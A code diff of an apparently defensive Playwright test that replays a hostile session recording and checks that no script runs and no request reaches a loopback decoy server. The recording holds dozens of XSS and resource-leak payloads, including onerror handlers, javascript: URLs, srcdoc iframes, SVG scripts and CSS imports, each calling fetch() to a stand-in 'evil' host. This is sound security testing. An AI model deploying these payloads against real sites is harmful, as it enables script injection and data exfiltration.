@@ -1,6 +1,7 @@
 import http from "node:http";
 import { chromium, type Request as BrowserRequest } from "@playwright/test";
 import { el, metaEvent, snapshotEvent, text } from "../support/events";
+import { waitUntil } from "@/tests/support/poll";
 import type { Context } from "./context";
 
 // Issue 8, part 4: a recording made of everything a hostile page (or a tampered SDK) can put in
@@ -9,57 +10,58 @@ import type { Context } from "./context";
 // request may leave for another host: every URL in it points at a decoy server on loopback that
 // counts what reaches it, and the browser's own request log is checked too.
 
-const DECOY_PORT = 3599;
-const EVIL = `http://127.0.0.1:${DECOY_PORT}`;
-const PWN = (how: string) => `window.top.__pwned=${JSON.stringify(how)};fetch(${JSON.stringify(`${EVIL}/fetch-${how}`)})`;
+// The decoy listens 99 above the app's port, so runs on different ports do not collide.
+const decoyPort = (appPort: number) => appPort + 99;
+const reportingScript = (evil: string) => (how: string) => `window.top.__pwned=${JSON.stringify(how)};fetch(${JSON.stringify(`${evil}/fetch-${how}`)})`;
 
 const svg = (tagName: string, attributes: Record<string, string> = {}, children: Record<string, unknown>[] = []) => ({ ...el(tagName, attributes, children), isSVG: true });
 
-function hostileRecording(start: number) {
-  const style = el("style", {}, [text(`@import url(${EVIL}/import.css); body{background-image:url('${EVIL}/style-bg')} @font-face{font-family:x;src:url(${EVIL}/font.woff)} p{font-family:x}`)]);
+function hostileRecording(start: number, evil: string) {
+  const attack = reportingScript(evil);
+  const style = el("style", {}, [text(`@import url(${evil}/import.css); body{background-image:url('${evil}/style-bg')} @font-face{font-family:x;src:url(${evil}/font.woff)} p{font-family:x}`)]);
   const head = [
-    el("meta", { "http-equiv": "refresh", content: `0;url=${EVIL}/meta-refresh` }),
-    el("base", { href: `${EVIL}/base/` }),
-    el("link", { rel: "stylesheet", href: `${EVIL}/link.css` }),
+    el("meta", { "http-equiv": "refresh", content: `0;url=${evil}/meta-refresh` }),
+    el("base", { href: `${evil}/base/` }),
+    el("link", { rel: "stylesheet", href: `${evil}/link.css` }),
     el("link", { rel: "stylesheet", href: "relative.css" }),
-    el("link", { rel: "stylesheet", href: `${EVIL}/inlined.css`, _cssText: `body{background:url(${EVIL}/link-csstext)}` }),
-    el("link", { rel: "prefetch", href: `${EVIL}/prefetch` }),
-    el("link", { rel: "preload", as: "image", href: `${EVIL}/preload` }),
-    el("link", { rel: "icon", href: `${EVIL}/icon` }),
-    el("link", { rel: "preconnect", href: `${EVIL}/preconnect` }),
+    el("link", { rel: "stylesheet", href: `${evil}/inlined.css`, _cssText: `body{background:url(${evil}/link-csstext)}` }),
+    el("link", { rel: "prefetch", href: `${evil}/prefetch` }),
+    el("link", { rel: "preload", as: "image", href: `${evil}/preload` }),
+    el("link", { rel: "icon", href: `${evil}/icon` }),
+    el("link", { rel: "preconnect", href: `${evil}/preconnect` }),
     el("link", { rel: "dns-prefetch", href: "//adv-leak.invalid" }),
-    el("script", { src: `${EVIL}/script-src.js` }),
-    el("script", {}, [text(PWN("script"))]),
+    el("script", { src: `${evil}/script-src.js` }),
+    el("script", {}, [text(attack("script"))]),
     style,
   ];
   // Found in the replay by its role: the masked stream keeps roles, not ids (they become hashes).
-  const target = el("div", { id: "target", role: "region", "data-x": `<img src=${EVIL}/data-attr onerror=${PWN("data-attr")}>` }, [text("Target")]);
+  const target = el("div", { id: "target", role: "region", "data-x": `<img src=${evil}/data-attr onerror=${attack("data-attr")}>` }, [text("Target")]);
   const body = [
     el("main", { "data-replay-unmask": "" }, [
-      el("div", { onclick: PWN("onclick"), onmouseover: PWN("onmouseover"), onload: PWN("onload") }, [text("Handlers")]),
-      el("a", { href: `javascript:${PWN("js-url")}` }, [text("js link")]),
-      el("a", { href: `data:text/html,<script>${PWN("data-url")}</script>` }, [text("data link")]),
-      el("a", { href: `${EVIL}/anchor`, ping: `${EVIL}/ping` }, [text("ping link")]),
-      el("iframe", { srcdoc: `<script>${PWN("srcdoc")}</script><img src="${EVIL}/srcdoc-img">` }),
-      el("iframe", { src: `${EVIL}/iframe-src` }),
-      el("iframe", { src: `javascript:${PWN("iframe-js")}` }),
-      el("img", { src: `${EVIL}/img`, onerror: PWN("img-onerror") }),
-      el("object", { data: `${EVIL}/object` }),
-      el("embed", { src: `${EVIL}/embed` }),
-      el("video", { poster: `${EVIL}/poster`, src: `${EVIL}/video` }),
-      el("input", { type: "image", src: `${EVIL}/input-image` }),
-      el("input", { type: "text", value: "styled", style: `background:url(${EVIL}/inline-style)` }),
-      el("form", { action: `${EVIL}/form` }, [el("button", { formaction: `${EVIL}/formaction` }, [text("Send")])]),
-      el("p", { style: `background-image:url("${EVIL}/p-style")` }, [text(`</p><script>${PWN("text")}</script>`)]),
-      svg("svg", { onload: PWN("svg-onload") }, [
-        svg("use", { href: `${EVIL}/use.svg#a` }),
-        svg("image", { href: `${EVIL}/svg-image` }),
-        svg("a", { href: `javascript:${PWN("svg-a")}` }, [svg("text", {}, [text("svg link")])]),
-        svg("animate", { attributeName: "href", to: `javascript:${PWN("animate")}` }),
-        svg("script", {}, [text(PWN("svg-script"))]),
-        svg("foreignObject", {}, [el("div", { style: `background:url(${EVIL}/foreign)` })]),
+      el("div", { onclick: attack("onclick"), onmouseover: attack("onmouseover"), onload: attack("onload") }, [text("Handlers")]),
+      el("a", { href: `javascript:${attack("js-url")}` }, [text("js link")]),
+      el("a", { href: `data:text/html,<script>${attack("data-url")}</script>` }, [text("data link")]),
+      el("a", { href: `${evil}/anchor`, ping: `${evil}/ping` }, [text("ping link")]),
+      el("iframe", { srcdoc: `<script>${attack("srcdoc")}</script><img src="${evil}/srcdoc-img">` }),
+      el("iframe", { src: `${evil}/iframe-src` }),
+      el("iframe", { src: `javascript:${attack("iframe-js")}` }),
+      el("img", { src: `${evil}/img`, onerror: attack("img-onerror") }),
+      el("object", { data: `${evil}/object` }),
+      el("embed", { src: `${evil}/embed` }),
+      el("video", { poster: `${evil}/poster`, src: `${evil}/video` }),
+      el("input", { type: "image", src: `${evil}/input-image` }),
+      el("input", { type: "text", value: "styled", style: `background:url(${evil}/inline-style)` }),
+      el("form", { action: `${evil}/form` }, [el("button", { formaction: `${evil}/formaction` }, [text("Send")])]),
+      el("p", { style: `background-image:url("${evil}/p-style")` }, [text(`</p><script>${attack("text")}</script>`)]),
+      svg("svg", { onload: attack("svg-onload") }, [
+        svg("use", { href: `${evil}/use.svg#a` }),
+        svg("image", { href: `${evil}/svg-image` }),
+        svg("a", { href: `javascript:${attack("svg-a")}` }, [svg("text", {}, [text("svg link")])]),
+        svg("animate", { attributeName: "href", to: `javascript:${attack("animate")}` }),
+        svg("script", {}, [text(attack("svg-script"))]),
+        svg("foreignObject", {}, [el("div", { style: `background:url(${evil}/foreign)` })]),
       ]),
-      el("x-evil", { onclick: PWN("custom") }),
+      el("x-evil", { onclick: attack("custom") }),
       target,
     ]),
   ];
@@ -69,20 +71,20 @@ function hostileRecording(start: number) {
     timestamp: start + 300,
     data: {
       source: 0,
-      texts: [{ id: (target.childNodes as { id: number }[])[0]!.id, value: `<img src=x onerror=${PWN("text-mutation")}>` }],
-      attributes: [{ id: target.id, attributes: { onclick: PWN("attr-mutation"), style: `background:url(${EVIL}/mutation-style)`, href: `${EVIL}/mutation-href` } }],
+      texts: [{ id: (target.childNodes as { id: number }[])[0]!.id, value: `<img src=x onerror=${attack("text-mutation")}>` }],
+      attributes: [{ id: target.id, attributes: { onclick: attack("attr-mutation"), style: `background:url(${evil}/mutation-style)`, href: `${evil}/mutation-href` } }],
       removes: [],
       adds: [
-        { parentId: target.id, nextId: null, node: { type: 2, id: 9001, tagName: "script", attributes: { src: `${EVIL}/added-script.js` }, childNodes: [{ type: 3, id: 9002, textContent: PWN("added-script") }] } },
-        { parentId: target.id, nextId: null, node: { type: 2, id: 9003, tagName: "img", attributes: { src: `${EVIL}/added-img`, onerror: PWN("added-img") }, childNodes: [] } },
-        { parentId: target.id, nextId: null, node: { type: 2, id: 9004, tagName: "link", attributes: { rel: "stylesheet", href: `${EVIL}/added-link.css` }, childNodes: [] } },
+        { parentId: target.id, nextId: null, node: { type: 2, id: 9001, tagName: "script", attributes: { src: `${evil}/added-script.js` }, childNodes: [{ type: 3, id: 9002, textContent: attack("added-script") }] } },
+        { parentId: target.id, nextId: null, node: { type: 2, id: 9003, tagName: "img", attributes: { src: `${evil}/added-img`, onerror: attack("added-img") }, childNodes: [] } },
+        { parentId: target.id, nextId: null, node: { type: 2, id: 9004, tagName: "link", attributes: { rel: "stylesheet", href: `${evil}/added-link.css` }, childNodes: [] } },
       ],
     },
   };
-  const rule = { type: 3, timestamp: start + 400, data: { source: 8, id: style.id, adds: [{ rule: `div{background:url(${EVIL}/rule-add)}`, index: 0 }] } };
-  const declaration = { type: 3, timestamp: start + 500, data: { source: 13, id: style.id, index: [0], set: { property: "background", value: `url(${EVIL}/declaration)` } } };
+  const rule = { type: 3, timestamp: start + 400, data: { source: 8, id: style.id, adds: [{ rule: `div{background:url(${evil}/rule-add)}`, index: 0 }] } };
+  const declaration = { type: 3, timestamp: start + 500, data: { source: 13, id: style.id, index: [0], set: { property: "background", value: `url(${evil}/declaration)` } } };
   const end = { type: 3, timestamp: start + 1500, data: { source: 1, positions: [{ x: 1, y: 1, id: target.id, timeOffset: 0 }] } };
-  return [metaEvent(`${EVIL}/page`, start), snapshot, mutation, rule, declaration, end];
+  return [metaEvent(`${evil}/page`, start), snapshot, mutation, rule, declaration, end];
 }
 
 export async function replaySafety(ctx: Context): Promise<void> {
@@ -91,14 +93,15 @@ export async function replaySafety(ctx: Context): Promise<void> {
     decoyHits.push(req.url ?? "");
     res.writeHead(200, { "content-type": "text/plain" }).end("decoy");
   });
-  await new Promise<void>((resolve) => decoy.listen(DECOY_PORT, "127.0.0.1", resolve));
+  const evil = `http://127.0.0.1:${decoyPort(ctx.server.config.port)}`;
+  await new Promise<void>((resolve) => decoy.listen(decoyPort(ctx.server.config.port), "127.0.0.1", resolve));
   const browser = await chromium.launch({
     executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
     args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run", "--disable-sync"],
   });
   try {
     const email = ctx.uniqueEmail("replay");
-    const { ticketId } = await ctx.ticketWithRecording(email, hostileRecording(Date.now()));
+    const { ticketId } = await ctx.ticketWithRecording(email, hostileRecording(Date.now(), evil));
     const agent = await ctx.signedIn("agent@demo.test");
     const { token } = await ctx.askToView(agent, ticketId, email);
     const approved = await ctx.newClient().post("/api/v1/approvals/decide", { json: { token, decision: "approve" } });
@@ -129,13 +132,31 @@ export async function replaySafety(ctx: Context): Promise<void> {
       .then(() => true)
       .catch(() => false);
     ctx.check("replay: the hostile recording replays (its content is there)", rendered);
-    // Play it through: the mutations and style rules come after the snapshot.
+    // Play it through: the mutations and style rules come after the snapshot. The player's
+    // progress bar is full once every event has been applied.
+    const progressWidth = () => page.locator(".rr-progress__step").evaluate((e) => (e as HTMLElement).style.width);
     await page.locator(".rr-controller__btns button").first().click();
-    await page.waitForTimeout(2500);
+    await waitUntil(async () => (await progressWidth()) === "100%", { what: "the replay played through", timeoutMs: 15_000 });
+    // Then a seek near the end (the player rebuilds the page by fast-forward, another code path),
+    // landed once the bar shows the new position.
     const bar = page.locator(".rr-progress");
     const box = await bar.boundingBox();
-    if (box) await page.mouse.click(box.x + box.width - 2, box.y + box.height / 2);
-    await page.waitForTimeout(1500);
+    if (box) {
+      await page.mouse.click(box.x + box.width - 2, box.y + box.height / 2);
+      await waitUntil(async () => (await progressWidth()) !== "100%", { what: "the seek landed", timeoutMs: 10_000 });
+    }
+    // Whatever the rebuilt page makes the browser fetch has been asked for once its request log
+    // stops growing.
+    let seen = -1;
+    await waitUntil(
+      () => {
+        const now = requests.length + failed.length;
+        const settled = now === seen;
+        seen = now;
+        return settled;
+      },
+      { what: "the agent's browser done requesting", timeoutMs: 10_000, intervalMs: 300 },
+    );
 
     const pwned = await Promise.all(page.frames().map((f) => f.evaluate(() => (window as unknown as { __pwned?: string }).__pwned ?? null).catch(() => null)));
     const sandbox = await frame.getAttribute("sandbox");
